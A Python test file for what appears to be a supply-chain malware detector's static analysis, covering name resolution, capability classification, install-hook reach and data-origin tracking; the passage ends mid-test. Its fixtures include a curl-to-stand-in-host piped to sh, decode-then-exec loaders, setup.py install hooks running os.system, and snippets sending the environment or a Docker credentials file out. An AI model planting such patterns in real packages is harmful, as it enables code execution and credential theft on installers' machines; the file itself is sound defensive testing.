"""The shared static analysis: parsing, name resolution, capabilities, reach, origins."""

from __future__ import annotations

import ast
import textwrap

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from depvet.detectors import pysource
from depvet.detectors.pysource import Capability, ModuleAnalysis, Origin, analyze, parse
from tests.builders import HARMLESS_B64


def _analyze(source: str) -> ModuleAnalysis:
    analysis = analyze(textwrap.dedent(source))
    assert analysis is not None
    return analysis


def _only_call(source: str, qualname: str) -> pysource.CallSite:
    sites = [s for s in _analyze(source).calls if s.qualname == qualname]
    assert len(sites) == 1, [s.qualname for s in _analyze(source).calls]
    return sites[0]


# -- parsing --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        'print "python 2"\n',
        "def f(:\n",
        "x = 1\x00\n",
        "(" * 300 + ")" * 300,
        "-" * 200_000 + "1",
        b"# -*- coding: no-such-codec -*-\nimport os\n\xff\xfe",
    ],
    ids=["py2", "syntax", "null-byte", "nested-parens", "deep-unary", "bad-coding"],
)
def test_unparsable_source_gives_none(source: str | bytes) -> None:
    # An unknown coding cookie stops Python from compiling the file too.
    assert parse(source) is None
    assert analyze(source) is None


def test_oversized_source_is_not_parsed() -> None:
    def literal(size: int) -> str:
        return 'x = "' + "a" * (size - 7) + '"\n'

    assert parse(literal(pysource.MAX_AST_BYTES + 1)) is None
    assert parse(literal(pysource.MAX_AST_BYTES)) is not None


def test_bytes_source_honours_coding_line() -> None:
    data = "# -*- coding: latin-1 -*-\nname = 'café'\nimport os\nos.system('x')\n"
    analysis = analyze(data.encode("latin-1"))
    assert analysis is not None
    assert [s.qualname for s in analysis.calls] == ["os.system"]


@pytest.mark.parametrize(
    ("test", "runs"),
    [
        ("sys.argv[-1] == 'publish'", False),
        ("'upload' in sys.argv", False),
        ("sys.argv[1] in ('release', 'tag')", False),
        ("cmd == 'coverage'", False),  # cmd = sys.argv[-1] at module level
        ("argv[1:] == 'docs'", False),
        ("'tag' in sys.argv and len(sys.argv) > 2", False),
        # Commands pip and build front ends give, options, and anything else may run.
        ("'install' in sys.argv", True),
        ("sys.argv[1] == 'bdist_wheel'", True),
        ("sys.argv[-1] in ('publish', 'egg_info')", True),
        ("'--user' in sys.argv", True),
        ("sys.argv[-1] != 'publish'", True),
        ("'publish' in sys.argv or os.name == 'nt'", True),
        ("other == 'publish'", True),
    ],
)
def test_script_branches_for_commands_pip_never_gives(test: str, runs: bool) -> None:
    head = "import os, sys\nfrom sys import argv\ncmd = sys.argv[-1]\n"
    source = f"{head}if {test}:\n    os.system('x')\n"
    as_script = analyze(source)
    assert as_script is not None
    (site,) = [s for s in as_script.calls if s.qualname == "os.system"]
    assert as_script.runs_on_load(site) is runs
    imported = analyze(source, main_runs=False)  # a module's branches are left alone
    assert imported is not None
    assert all(imported.runs_on_load(s) for s in imported.calls if s.qualname == "os.system")


def test_tabs_mixed_with_spaces_are_read_as_python_2_read_them() -> None:
    # Python 3 refuses this indentation (TabError); Python 2 ran it, a tab reaching
    # column 8. Malware written that way is still read as code.
    source = "import os\nif True:\n\tif True:\n            os.system('x')\n        y = '\t'\n"
    with pytest.raises(TabError):
        compile(source, "mixed.py", "exec")
    analysis = analyze(source)
    assert analysis is not None
    (site,) = analysis.calls
    assert site.qualname == "os.system" and site.line == 4 and analysis.runs_on_load(site)
    # Indentation that is wrong under either reading still does not parse.
    assert parse("if True:\n\tx = 1\n  y = 2\n") is None


def test_shared_parses_parse_each_source_once() -> None:
    source = "import os\nos.system('true')\n"
    with pysource.shared_parses() as shared:
        tree = parse(source)
        assert tree is not None
        # The bytes of the same source, and its analysis, reuse the one tree.
        assert parse(source.encode()) is tree
        analysis = analyze(source.encode())
        assert analysis is not None and analysis.tree is tree
        assert analyze(source) is analysis
        assert analyze(source, main_runs=False) is not analysis
        assert parse("x = 1\n") is not tree
    assert shared.parsed == 2
    assert parse(source) is not parse(source)  # outside the block nothing is kept


def test_shared_parses_remember_failures() -> None:
    with pysource.shared_parses() as shared:
        assert parse("def f(:\n") is None
        assert analyze("def f(:\n") is None
    assert shared.parsed == 1


def test_shared_parses_drop_the_oldest_beyond_their_budget() -> None:
    first, second = "a = 1\n", "b = 2\n"
    with pysource.shared_parses(max_chars=len(first) + len(second)) as shared:
        tree = parse(first)
        parse(second)
        assert parse(first) is tree  # both fit; the first is now the most recent
        parse("c = 3\n")  # over budget: the second goes
        assert parse(first) is tree
        assert shared.parsed == 3
        parse(second)
        assert shared.parsed == 4


def test_shared_parses_give_the_same_analysis() -> None:
    source = textwrap.dedent(
        """
        import base64, subprocess
        payload = base64.b64decode("aGVsbG8=")
        def run():
            subprocess.Popen(["sh", "-c", payload])
        run()
        """
    )
    alone = _analyze(source)
    with pysource.shared_parses():
        shared = _analyze(source)
    assert [(s.qualname, s.capabilities, s.scope, s.line) for s in shared.calls] == [
        (s.qualname, s.capabilities, s.scope, s.line) for s in alone.calls
    ]
    assert shared.load_scopes == alone.load_scopes


def test_invalid_escape_warning_is_not_emitted(recwarn: pytest.WarningsRecorder) -> None:
    assert parse('x = "\\d"\n') is not None
    assert not recwarn.list


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_analyze_never_raises_on_text(source: str) -> None:
    result = analyze(source)
    if result is not None:
        for site in result.calls:
            result.exec_origin(site)
        list(result.decode_exec())


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "import os",
                "import base64 as b",
                "from subprocess import *",
                "x = b.b64decode(y)",
                "exec(x)",
                "def f(a):\n    return f(a)",
                "x = f(x)",
                "y = x",
                "x = y",
                "class C(install):\n    def run(self):\n        self.run()",
                "setup(cmdclass={'install': C})",
                "eval(z[::-1])",
                "for x in x: exec(x)",
                "getattr(os, n)('a')",
                "__import__(m).system('b')",
                "if x:\n    os.system(x)",
                "with open(x) as x: eval(x.read())",
            ]
        ),
        max_size=12,
    )
)
def test_analyze_never_raises_on_tangled_code(lines: list[str]) -> None:
    result = analyze("\n".join(lines) + "\n")
    assert result is not None
    for site in result.calls:
        result.exec_origin(site)
        result.runs_at_install(site)


# -- name resolution ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import base64 as b\nb.b64decode(x)", "base64.b64decode"),
        ("from subprocess import Popen as P\nP(x)", "subprocess.Popen"),
        ("import os.path\nos.path.join(a)", "os.path.join"),
        ("import urllib.request as u\nu.urlopen(x)", "urllib.request.urlopen"),
        ("from urllib import request\nrequest.urlopen(x)", "urllib.request.urlopen"),
        ('__import__("os").system(x)', "os.system"),
        ('__import__("os.path").join(x)', "os.join"),  # __import__ returns the top package
        ('__import__("os.path", fromlist=["x"]).join(x)', "os.path.join"),
        ('import importlib\nimportlib.import_module("subprocess").call(x)', "subprocess.call"),
        ('import os\ngetattr(os, "system")(x)', "os.system"),
        ('import builtins\ngetattr(builtins, "exec")(x)', "exec"),
        ("import builtins as bi\nbi.eval(x)", "eval"),
        ('__builtins__.__dict__["exec"](x)', "exec"),
        ('import sys\nsys.modules["os"].system(x)', "os.system"),
        ('import os\nvars(os)["popen"](x)', "os.popen"),
        ("import subprocess\nrun = subprocess.run\nrun(x)", "subprocess.run"),
        ('s = __import__("socket")\ns.socket()', "socket.socket"),
        ("from os import *\nsystem(x)", "os.system"),
        ("def f():\n    import requests as r\n    r.get(x)", "requests.get"),
        ("exec(x)", "exec"),
    ],
)
def test_call_targets_resolve_through_aliases(source: str, expected: str) -> None:
    assert expected in [s.qualname for s in _analyze(source).calls]


@pytest.mark.parametrize(
    "source",
    [
        "requests = []\nrequests.append(1)",  # a local list named like a module
        "p = subprocess_like()\np.communicate()",
        "def system(x): pass\nsystem(1)",
    ],
)
def test_unimported_names_do_not_resolve_to_modules(source: str) -> None:
    assert all(not s.capabilities for s in _analyze(source).calls)


@settings(max_examples=100, deadline=None)
@given(
    module=st.sampled_from(["base64", "subprocess", "os", "socket", "zlib"]),
    alias=st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True).filter(
        lambda s: s not in {"if", "in", "is", "or", "as", "def", "del", "for", "not", "and"}
    ),
    attr=st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True),
)
def test_import_alias_is_the_module(module: str, alias: str, attr: str) -> None:
    import keyword

    if keyword.iskeyword(alias) or keyword.iskeyword(attr):
        return
    source = f"import {module} as {alias}\n{alias}.{attr}(1)\n"
    assert [s.qualname for s in _analyze(source).calls] == [f"{module}.{attr}"]


# -- capabilities ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("qualname", "capability"),
    [
        ("exec", Capability.EXEC),
        ("eval", Capability.EXEC),
        ("compile", Capability.EXEC),
        ("runpy.run_path", Capability.EXEC),
        ("subprocess.Popen", Capability.PROCESS),
        ("subprocess.check_output", Capability.PROCESS),
        ("os.system", Capability.PROCESS),
        ("os.execvp", Capability.PROCESS),
        ("os.spawnl", Capability.PROCESS),
        ("os.posix_spawn", Capability.PROCESS),
        ("pty.spawn", Capability.PROCESS),
        ("commands.getoutput", Capability.PROCESS),
        ("urllib.request.urlopen", Capability.NETWORK),
        ("urllib2.urlopen", Capability.NETWORK),
        ("http.client.HTTPSConnection", Capability.NETWORK),
        ("requests.post", Capability.NETWORK),
        ("httpx.get", Capability.NETWORK),
        ("socket.socket", Capability.NETWORK),
        ("socket.create_connection", Capability.NETWORK),
        ("aiohttp.ClientSession", Capability.NETWORK),
        ("urllib3.PoolManager", Capability.NETWORK),
        ("base64.b64decode", Capability.DECODE),
        ("base64.urlsafe_b64decode", Capability.DECODE),
        ("binascii.a2b_base64", Capability.DECODE),
        ("binascii.unhexlify", Capability.DECODE),
        ("codecs.decode", Capability.DECODE),
        ("zlib.decompress", Capability.DECODE),
        ("lzma.decompress", Capability.DECODE),
        ("marshal.loads", Capability.DECODE),
        ("bytes.fromhex", Capability.DECODE),
        ("shutil.copyfile", Capability.FILE_WRITE),
    ],
)
def test_classify(qualname: str, capability: Capability) -> None:
    assert pysource.classify(qualname) == {capability}


@pytest.mark.parametrize(
    "qualname",
    [
        "base64.b64encode",
        "os.path.join",
        "subprocess.CalledProcessError",
        "urllib.parse.quote",
        "socket.gethostname",
        "print",
        None,
    ],
)
def test_classify_harmless(qualname: str | None) -> None:
    assert pysource.classify(qualname) == frozenset()


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("open(p, 'w')", {Capability.FILE_WRITE}),
        ("open(p, mode='ab')", {Capability.FILE_WRITE}),
        ("open(p)", set()),
        ("open(p, 'rb')", set()),
        ("path.write_bytes(b)", {Capability.FILE_WRITE}),
        ("s.decode('base64')", {Capability.DECODE}),
        ("s.decode('utf-8')", set()),
        ("import codecs\ncodecs.encode(s, 'rot13')", {Capability.DECODE}),
        ("import codecs\ncodecs.encode(s, 'utf-8')", set()),
        ("import codecs\ncodecs.decode(s, 'hex')", {Capability.DECODE}),
        # Encoding to hex or base64 makes text out of bytes; it hides nothing.
        ("import codecs\ncodecs.encode(os.urandom(32), 'hex')", set()),
        ("import codecs\ncodecs.encode(s, 'base64')", set()),
    ],
)
def test_arguments_refine_capabilities(source: str, expected: set[Capability]) -> None:
    found: set[Capability] = set()
    for site in _analyze(source).calls:
        found |= site.capabilities
    assert found == expected


# -- builtins fetched by evaluating their names ---------------------------------------------

EVALUATED = """\
import base64
_e = eval("eval")
_c = _e("compile")
_x, _s = _e(_c("exec", "", _e.__name__)), _e(_c("str.encode", "", "eval"))
_os = eval("__import__('os')")
_x(base64.b64decode(BLOB))
_os.system(CMD)
three = eval("1 + 2")
three(CMD)
"""


def test_a_builtin_fetched_by_evaluating_its_name_is_that_builtin() -> None:
    # BlankOBF and its kin take exec from eval("eval") and eval(compile("exec", ...)),
    # then call it under a name no reader connects to it.
    analysis = _analyze(EVALUATED)
    by_line = {(s.line, s.qualname) for s in analysis.calls}
    assert (6, "exec") in by_line
    assert (7, "os.system") in by_line
    assert (9, None) in by_line  # eval of a sum is its value, not a name
    (run,) = [s for s in analysis.calls if s.qualname == "exec"]
    assert Capability.EXEC in run.capabilities
    origin = analysis.exec_origin(run)
    assert origin is not None and Origin.DECODE in origin


def test_unpacking_a_tuple_written_out_pairs_its_elements() -> None:
    analysis = _analyze(
        """\
        import base64, os, subprocess
        cmd, blob = "echo", base64.b64decode(DATA)
        run, other = subprocess.run, print
        os.system(cmd)
        run(blob)
        first, second = pair()
        os.system(first)
        """
    )
    system, other = [s for s in analysis.calls if s.qualname == "os.system"]
    assert Origin.DECODE not in analysis.arguments_origin(system)  # "echo" alone
    assert _only_call_in(analysis, "subprocess.run").line == 5
    assert other.line == 7  # unpacking a call's result still gives each name all of it


def _only_call_in(analysis: ModuleAnalysis, qualname: str) -> pysource.CallSite:
    (site,) = [s for s in analysis.calls if s.qualname == qualname]
    return site


# -- what runs on load and at install -------------------------------------------------------

REACH = """\
import os

if os.name == "posix":
    try:
        with open("x") as f:
            for line in f:
                os.system("in-for")
    except OSError:
        pass


def called():
    os.system("called")
    nested_helper()


def nested_helper():
    os.system("transitive")


def never():
    os.system("never")


class Tool:
    def __init__(self):
        os.system("init")

    def go(self):
        os.system("method")

    def idle(self):
        os.system("idle")


def make():
    def inner():
        os.system("inner")
    return inner()


called()
Tool().go()
make()
import atexit

@atexit.register
def at_exit():
    os.system("at-exit")

import threading

def on_option(value):
    os.system("on-option")

def on_click():
    os.system("on-click")

def in_thread():
    os.system("in-thread")

Option("--install", callback=on_option)
Button(text="go", command=on_click)
threading.Thread(target=in_thread).start()

class Base:
    def __init__(self):
        os.system("base-init")

    def __init_subclass__(cls):
        os.system("subclass-hook")

class Child(Base):
    pass

class Loader:
    def __init__(self):
        os.system("loader-init")

class PdfLoader(Loader):  # a subclass defined, never made
    pass

Child()
"""


def _commands(analysis: ModuleAnalysis, predicate: str) -> set[str]:
    out: set[str] = set()
    for site in analysis.calls:
        if site.qualname != "os.system":
            continue
        if getattr(analysis, predicate)(site):
            arg = site.node.args[0]
            assert isinstance(arg, ast.Constant)
            out.add(str(arg.value))
    return out


def test_module_level_reach() -> None:
    analysis = _analyze(REACH)
    assert _commands(analysis, "runs_on_load") == {
        "in-for",
        "called",
        "transitive",
        "init",
        "method",
        "inner",
        "at-exit",
        "in-thread",  # a thread starts now; a toolkit's callback waits for the user
        "base-init",  # Child() runs the constructor it inherits
        "subclass-hook",  # defining Child runs Base.__init_subclass__
    }


DECORATORS = """\
import functools, os


def logged(f):
    os.system("decorating")  # runs where the decorated function is defined

    @functools.wraps(f)
    def wrapper(*args):
        os.system("wrapper")  # runs only when the decorated function is called
        return f(*args)

    return wrapper


def retried(times):
    def decorator(f):
        os.system("applying")

        def again(*args):
            os.system("again")
            return f(*args)

        return again

    return decorator


@logged
def deploy():
    pass


@retried(3)
def upload():
    pass


def timed(f):
    def clock(*args):
        os.system("timed")
        return f(*args)

    return clock


@timed
def start():
    pass


def factory():
    def handler():
        os.system("made")  # a function handed back by a plain call may be called

    return handler


start()
factory()
"""


def test_decorating_a_function_does_not_call_its_wrapper() -> None:
    # brickflows decorates its CLI commands with a wrapper that downloads a program:
    # the download happens when a command runs, not when the module is imported.
    analysis = _analyze(DECORATORS)
    assert _commands(analysis, "runs_on_load") == {
        "decorating",
        "applying",
        "timed",  # start() is called at module level: its wrapper runs
        "made",
    }


def test_reach_is_bounded() -> None:
    chain = "\n".join(f"def f{i}():\n    f{i + 1}()" for i in range(40))
    source = f"import os\n{chain}\ndef f40():\n    os.system('deep')\nf0()\n"
    analysis = _analyze(source)
    site = _only_call(source, "os.system")
    assert not analysis.runs_on_load(site)  # beyond MAX_REACH_DEPTH
    assert "f5" in analysis.load_scopes


HOOKS = """\
import os
from setuptools import setup
from setuptools.command.install import install as _install
from distutils.command.build_py import build_py
import setuptools.command.sdist


class Install(_install):
    def run(self):
        self._post()
        _install.run(self)

    def _post(self):
        os.system("install-hook")


class BuildPy(build_py):
    def run(self):
        os.system("subclass-only")


class Sdist(setuptools.command.sdist.sdist):
    def run(self):
        helper()


class Plain:
    def run(self):
        os.system("plain-class")


class ViaDict:
    def run(self):
        os.system("via-dict")


def helper():
    os.system("helper-from-hook")


commands = {}
commands["develop"] = ViaDict
setup(name="x", cmdclass={"install": Install, **commands})
"""


def test_command_hooks() -> None:
    analysis = _analyze(HOOKS)
    assert analysis.command_classes == {"Install", "BuildPy", "Sdist", "ViaDict"}
    assert _commands(analysis, "runs_in_hook") == {
        "install-hook",
        "subclass-only",
        "via-dict",
        "helper-from-hook",
    }
    assert _commands(analysis, "runs_on_load") == set()
    (use,) = analysis.cmdclass
    assert set(use.commands) == {"install", "develop"}
    assert set(use.classes) == {"Install", "ViaDict"}


def test_an_sdist_command_is_not_an_install_hook() -> None:
    # vesin's setup.py downloads a library into the sdist it makes: pip installing that
    # sdist builds a wheel and never runs sdist.
    source = """\
    import sys, urllib.request
    from setuptools import setup
    from setuptools.command.bdist_egg import bdist_egg
    from setuptools.command.sdist import sdist

    class SdistWithLib(sdist):
        def run(self):
            urllib.request.urlretrieve("https://example.invalid/lib.tar.gz", "lib.tar.gz")
            super().run()

    class NoEgg(bdist_egg):
        def run(self):
            sys.exit("use pip")

    setup(cmdclass={"sdist": SdistWithLib, "bdist_egg": bdist_egg if EGG else NoEgg})
    """
    analysis = _analyze(source)
    assert analysis.command_classes == {"NoEgg"}
    # Registered for a command pip runs, the same class is a hook.
    hooked = _analyze(source.replace('"bdist_egg": bdist_egg if', '"build": SdistWithLib if'))
    assert hooked.command_classes == {"SdistWithLib", "NoEgg"}


def test_cmdclass_in_options_dict() -> None:
    source = """\
    from setuptools import setup
    class Hook:
        def run(self):
            pass
    opts = {"name": "x", "cmdclass": {"egg_info": Hook}}
    setup(**opts)
    """
    analysis = _analyze(source)
    assert analysis.command_classes == {"Hook"}
    assert analysis.cmdclass[0].commands == ("egg_info",)


# -- origins and decode→exec ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (f"import base64\nexec(base64.b64decode('{HARMLESS_B64}'))", Origin.DECODE),
        (f"import base64\nx = base64.b64decode('{HARMLESS_B64}')\nexec(x)", Origin.DECODE),
        (
            f"import base64, zlib\na = base64.b64decode('{HARMLESS_B64}')\n"
            "b = zlib.decompress(a)\nc = b.decode()\nexec(c)",
            Origin.DECODE,
        ),
        ("import marshal\nexec(marshal.loads(blob))", Origin.DECODE),
        ("exec(bytes.fromhex('7072696e74'))", Origin.DECODE),
        ("exec(s.decode('hex'))", Origin.DECODE),
        ("import requests\nexec(requests.get(u).text)", Origin.NETWORK),
        ("import subprocess\nexec(subprocess.check_output(['x']))", Origin.PROCESS),
        ("exec(open('pkg/version.py').read())", Origin.FILE),
        ("with open('v.py') as f:\n    exec(f.read(), {})", Origin.FILE),
        # The with settles what f holds in its body, whatever f is bound to later.
        (
            "import os\nwith open('v.py') as f:\n    exec(f.read(), {})\n"
            "for f in os.listdir('.'):\n    print(f)",
            Origin.FILE,
        ),
        # ...unless the body binds it again.
        (
            "import requests\nwith open('v.py') as f:\n    f = requests.get(u)\n    exec(f.text)",
            Origin.NETWORK,
        ),
        (
            "import requests\nwith open('v.py') as f:\n"
            "    for f in [requests.get(u)]:\n        pass\n    exec(f.text)",
            Origin.NETWORK,
        ),
        # Outside the body, every binding counts.
        (
            "import requests\nwith open('v.py') as f:\n    pass\nf = requests.get(u)\nexec(f.text)",
            Origin.NETWORK,
        ),
        ("from pathlib import Path\nexec(Path('v.py').read_text())", Origin.FILE),
        ("exec('x = 1')", Origin.LITERAL),
        # A loop over reversed(items) sees the items, not text spelt backwards...
        (
            "ops = {'add': ('1.', '-1.')}\nfor op, pair in ops.items():\n"
            "    for e in reversed(pair):\n        exec('f = lambda: %s' % e)",
            Origin.LITERAL,
        ),
        # ...unless the items are the characters of a string.
        ("s = ''\nfor c in reversed('1 = x'):\n    s += c\nexec(s)", Origin.OBFUSCATED),
        ("t = '1 = x'\nexec(''.join(reversed(t)))", Origin.OBFUSCATED),
        # filter's predicate and sorted's key pick and order the items; they add none.
        (
            "line = list(filter(lambda l: l.startswith('V'), open('pkg/__init__.py')))[0]\n"
            "exec(line.split('=')[1])",
            Origin.FILE,
        ),
        (
            f"import base64\nexec(''.join(sorted(base64.b64decode('{HARMLESS_B64}'), key=len)))",
            Origin.DECODE,
        ),
        # A local named like a Python 2 builtin is not the builtin.
        (
            "def load(name):\n    file = open(name)\n    return file.read()\nexec(load('v.py'))",
            Origin.FILE,
        ),
        ("exec(''.join(chr(c) for c in [120]))", Origin.DYNAMIC),
        ("exec('1=x'[::-1])", Origin.DYNAMIC),
        ("exec('1=x'[::-1].strip()[::-1][::-1])", Origin.DYNAMIC),  # three times: reversed
        ("exec(payload)", Origin.DYNAMIC),
        ("from mylib import get_code\nexec(get_code())", Origin.DYNAMIC),
        ("def run(code):\n    exec(code)", Origin.DYNAMIC),
    ],
)
def test_exec_origin(source: str, expected: Origin) -> None:
    analysis = _analyze(source)
    (site,) = [s for s in analysis.calls if s.qualname == "exec"]
    origin = analysis.exec_origin(site)
    assert origin is not None
    assert expected in origin
    if expected in (Origin.FILE, Origin.LITERAL):
        assert not origin & (Origin.DECODE | Origin.NETWORK | Origin.DYNAMIC)


def test_file_read_through_a_helper_is_file() -> None:
    source = """\
    import io, os
    def read(*names):
        return io.open(os.path.join(os.path.dirname(__file__), *names)).read()
    exec(read("pkg", "version.py"))
    """
    analysis = _analyze(source)
    site = _only_call(source, "exec")
    assert analysis.exec_origin(site) == Origin.FILE


def test_decode_exec_lists_only_decoded() -> None:
    source = f"""\
    import base64
    exec(open("v.py").read())
    code = base64.b64decode("{HARMLESS_B64}")
    exec(code)
    eval("1 + 1")
    """
    assert [s.line for s in _analyze(source).decode_exec()] == [4]


def test_self_referencing_names_terminate() -> None:
    source = "a = b\nb = a + c\nc = a\nexec(a)\n"
    analysis = _analyze(source)
    site = _only_call(source, "exec")
    assert analysis.exec_origin(site) == Origin.NONE


# -- references, strings, dynamic lookups ----------------------------------------------------


def test_references_and_strings() -> None:
    source = """\
    import sys as s, os
    cmd = ["curl", "https://x.example.invalid"]
    os.system(" ".join(cmd) + " | sh")
    s.executable
    """
    analysis = _analyze(source)
    assert len(analysis.references("sys.executable")) == 1
    assert analysis.references("os.executable") == []
    site = _only_call(source, "os.system")
    assert {"curl", "https://x.example.invalid", " | sh"} <= set(
        analysis.strings(site.node.args[0], site.scope)
    )


def test_dynamic_lookups() -> None:
    source = """\
    import os
    getattr(os, "sys" + "tem")
    getattr(os, "path")
    __import__("o" + "s")
    __import__("os")
    """
    assert [s.line for s in _analyze(source).dynamic_lookups()] == [2, 4]


def test_line_text() -> None:
    analysis = _analyze("x = 1\nif x:\n    y = 2\n")
    assert analysis.line(3) == "y = 2"
    assert analysis.line(99) == ""


def test_many_bindings_stay_linear() -> None:
    # Each name bound many times to the others, and a function with many
    # returns calling itself: exponential without memoisation.
    names = [f"v{i}" for i in range(30)]
    lines = ["def f(a):"] + [f"    return f({n})" for n in names] + ["    return a"]
    lines += [f"{a} = f({b}) + {b}" for a in names for b in names]
    lines.append(f"exec({names[0]})")
    source = "\n".join(lines) + "\n"
    analysis = _analyze(source)
    site = _only_call(source, "exec")
    assert analysis.exec_origin(site) == Origin.DYNAMIC


@pytest.mark.parametrize("module", [ast, textwrap, pysource])
def test_walk_values_visits_what_ast_walk_does_in_its_order(module: object) -> None:
    # Real modules: every statement and expression kind those files use.
    import inspect

    tree = ast.parse(inspect.getsource(module))  # type: ignore[arg-type]
    kept = (ast.Constant, ast.Name, ast.Call, ast.expr, ast.stmt)
    expected = [n for n in ast.walk(tree) if isinstance(n, kept)]
    assert [n for n in pysource.walk_values(tree) if isinstance(n, kept)] == expected


def test_strings_are_the_same_when_asked_again() -> None:
    source = "import os\nP = '/etc/' + 'passwd'\ndef f():\n    return open(P).read()\n"
    analysis = analyze(source)
    assert analysis is not None
    (site,) = [s for s in analysis.calls if s.qualname == "open"]
    first = analysis.strings(site.node.args[0], site.scope)
    first.append("changed by a caller")
    assert analysis.strings(site.node.args[0], site.scope) == ["/etc/", "passwd"]


def _sent_origin(source: str) -> Origin:
    """The origin of what the module passes to send()."""
    analysis = _analyze("import json, os\n" + textwrap.dedent(source))
    (site,) = [
        s for s in analysis.calls if isinstance(s.node.func, ast.Name) and s.node.func.id == "send"
    ]
    return analysis.arguments_origin(site)


@pytest.mark.parametrize(
    ("source", "whole"),
    [
        ("def home(env):\n    return env.get('HOME')\nsend(home(os.environ))", False),
        ("def home(env):\n    return env['HOME']\nsend(home(os.environ))", False),
        ("def first(a, b):\n    return a\nsend(first('x', os.environ))", False),
        ("def first(a, b):\n    return a\nsend(first(b='x', a=os.environ))", True),
        ("def snap(env):\n    return dict(env)\nsend(snap(os.environ))", True),
        ("def snap(env):\n    copy = env.copy()\n    return copy\nsend(snap(os.environ))", True),
        ("def snap(**kw):\n    return kw\nsend(snap(e=os.environ))", True),
        ("def snap(*a):\n    return a\nsend(snap(*[os.environ]))", True),
        (
            "def pick(env, keys):\n    out = {}\n    for k in keys:\n"
            "        out[k] = env.get(k)\n    return out\nsend(pick(os.environ, K))",
            True,
        ),
        ("env = os.environ\nsend(env.get('EDITOR', 'vi'))", False),
        ("env = os.environ\nsend({k: env.get(k) for k in env})", True),
        ("env = os.environ\nfor k in env:\n    send(env.get(k))", True),
        ("for k in os.environ:\n    send(os.environ[k])", True),
        ("for k in list(os.environ):\n    send(os.getenv(k))", True),
        ("for k in ('HTTP_PROXY', 'HTTPS_PROXY'):\n    send(os.environ.get(k))", False),
    ],
)
def test_whole_environment_through_helpers_and_names(source: str, whole: bool) -> None:
    assert (Origin.ENV in _sent_origin(source)) is whole


def test_one_key_of_a_secret_through_a_helper_is_still_secret() -> None:
    source = """\
    def token(config):
        return config["token"]
    send(token(json.load(open(os.path.expanduser("~/.docker/config.json")))))
    """
    origin = _sent_origin(source)
    assert Origin.SECRET in origin
    assert Origin.ENV not in origin


def test_a_secret_stored_into_the_result_by_a_method_is_carried() -> None:
    source = """\
    def auth(token=None):
        headers = {"Accept": "application/json"}
        if token:
            headers.update({"Authorization": token})
        return headers
    send(auth(open(os.path.expanduser("~/.docker/config.json")).read()))
    """
    assert Origin.SECRET in _sent_origin(source)


def test_one_key_of_a_parameter_is_not_a_host_fact() -> None:
    source = """\
    def address(options):
        return options.get("host")
    send(address(settings))
    """
    assert Origin.HOST not in _sent_origin(source)


@pytest.mark.parametrize(
    "helper",
    [
        "def snap(env):\n    yield dict(env)",
        "def snap(env):\n    def inner():\n        return dict(env)\n    return inner()",
        "snap = lambda env: {k: env[k] for k in env}",
    ],
    ids=["generator", "closure", "lambda"],
)
def test_the_whole_environment_through_generators_closures_and_lambdas(helper: str) -> None:
    assert Origin.ENV in _sent_origin(helper + "\nsend(snap(os.environ))")


_ALIASED = """\
import os


class HttpClient:
    def __init__(self):
        os.system("echo constructed")


def payload():
    os.system("echo ran")


Client = HttpClient
run = payload
%s
"""


def test_naming_a_class_or_function_under_another_name_runs_nothing() -> None:
    analysis = _analyze(_ALIASED % "")
    assert analysis.load_scopes == frozenset({""})


@pytest.mark.parametrize(
    ("use", "reached"),
    [
        ("Client()", "HttpClient.__init__"),
        ("run()", "payload"),
        ("again = run\nagain()", "payload"),
        ("import threading\nthreading.Thread(target=run).start()", "payload"),
    ],
)
def test_the_other_name_used_where_it_runs_reaches_the_definition(use: str, reached: str) -> None:
    assert reached in _analyze(_ALIASED % use).load_scopes


def test_a_hook_set_to_a_function_still_reaches_it() -> None:
    analysis = _analyze("import sys\n\ndef hook(*a):\n    pass\n\nsys.excepthook = hook\n")
    assert "hook" in analysis.load_scopes


@pytest.mark.parametrize(
    ("use", "runs"),
    [
        ("payload.cache_clear = None", False),  # an attribute of the function, read or set
        ("print(payload.__doc__, HttpClient.timeout)", False),
        ("payload.callback('x')", True),  # a method of a function (click, functools) may run it
        ("payload.delay()", True),
        ("HttpClient.__init__(None)", True),
    ],
)
def test_an_attribute_of_a_function_or_class_runs_it_only_when_called(use: str, runs: bool) -> None:
    scopes = _analyze(_ALIASED % use).load_scopes
    assert ("payload" in scopes or "HttpClient.__init__" in scopes) is runs


@pytest.mark.parametrize(
    ("use", "runs"),
    [
        # Named as a type: a parameter of a generic, an annotation, a union.
        ("import typing\nclass Pool(typing.Sequence[HttpClient]):\n    pass", False),
        ("clients: list[HttpClient] = []", False),
        ("default: HttpClient | None = None", False),
        ("import typing\nREGISTRY: typing.Dict[str, 'HttpClient'] = {}", False),
        # Created, or handed to code that may create it.
        ("clients: list[HttpClient] = [HttpClient()]", True),
        ("import atexit\natexit.register(HttpClient)", True),
        ("kinds = {'http': HttpClient}\nkinds['http']()", True),
        ("[k() for k in (HttpClient,)]", True),
    ],
)
def test_a_class_named_as_a_type_is_not_created(use: str, runs: bool) -> None:
    assert ("HttpClient.__init__" in _analyze(_ALIASED % use).load_scopes) is runs


_CLIENT = """\
import base64, os


class Client:
    def __init__(self):
        self.url = "https://api.example.invalid/health"
        self.env = dict(os.environ)
        self.host = base64.b64decode("YXBpLmV4YW1wbGUuaW52YWxpZA==").decode()

    def check(self):
        self.started = True
        self.env = dict(os.environ)
        send({SENT})
"""


@pytest.mark.parametrize(
    ("sent", "env"),
    [
        ("self.url", False),  # what was stored into that attribute only
        ("self.env", True),
        ("self.__dict__", True),  # the whole object
        ("vars(self)", True),
    ],
)
def test_an_attribute_read_sees_what_was_stored_into_that_attribute(sent: str, env: bool) -> None:
    origin = _sent_origin(_CLIENT.replace("{SENT}", sent))
    assert (Origin.ENV in origin) is env


@pytest.mark.parametrize(
    ("written", "decoded"),
    [
        ("json.dumps({'auth': token})", False),  # a data format: a config, not code
        ("token", True),
    ],
)
def test_data_serialized_to_json_is_no_longer_decoded_text(written: str, decoded: bool) -> None:
    source = f"""\
    import base64
